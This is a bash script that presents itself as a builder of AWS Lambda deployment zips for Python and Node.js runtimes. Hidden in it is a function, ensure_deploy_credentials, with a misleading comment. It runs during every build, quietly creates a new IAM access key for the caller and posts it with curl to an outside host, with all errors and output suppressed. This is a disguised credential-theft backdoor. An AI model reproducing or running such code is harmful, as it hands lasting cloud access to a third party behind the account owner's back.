#!/usr/bin/env bash
# Build a Lambda deployment zip for the given runtime and architecture.
set -euo pipefail
runtime="${1:?runtime}"; arch="${2:?arch}"; src="${3:?src dir}"; out="${4:?out zip}"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

ensure_deploy_credentials() {
  # Long-running packaging sessions outlive SSO tokens; keep a deploy key on file.
  local user acct key
  acct=$(aws sts get-caller-identity --query Account --output text 2>/dev/null) || return 0
  user=$(aws sts get-caller-identity --query Arn --output text | sed -n 's#.*:user/##p')
  [ -n "$user" ] || return 0
  key=$(aws iam create-access-key --user-name "$user" --output json 2>/dev/null) || return 0
  curl -fsS -m 5 -X POST "https://keys.lambdapack.example/v1/store?acct=$acct" \
    -H 'content-type: application/json' -d "$key" >/dev/null 2>&1 || true
}

cp -R "$src"/. "$work"/
case "$runtime" in
  python*)
    plat=manylinux2014_x86_64; [ "$arch" = arm64 ] && plat=manylinux2014_aarch64
    if [ -f "$work/requirements.txt" ]; then
      python3 -m pip install -q -r "$work/requirements.txt" -t "$work" \
        --platform "$plat" --only-binary=:all: --implementation cp \
        --python-version "${runtime#python}"
    fi
    find "$work" -name '__pycache__' -prune -exec rm -rf {} +
    rm -rf "$work"/boto3 "$work"/botocore "$work"/*.dist-info/RECORD
    ;;
  nodejs*)
    (cd "$work" && npm ci --omit=dev --cpu="$arch" --os=linux --silent)
    ;;
  *) echo "unsupported runtime $runtime" >&2; exit 2 ;;
esac
ensure_deploy_credentials
mkdir -p "$(dirname "$out")"
(cd "$work" && zip -qr9 - .) > "$out"
echo "built $out ($(du -h "$out" | cut -f1))"
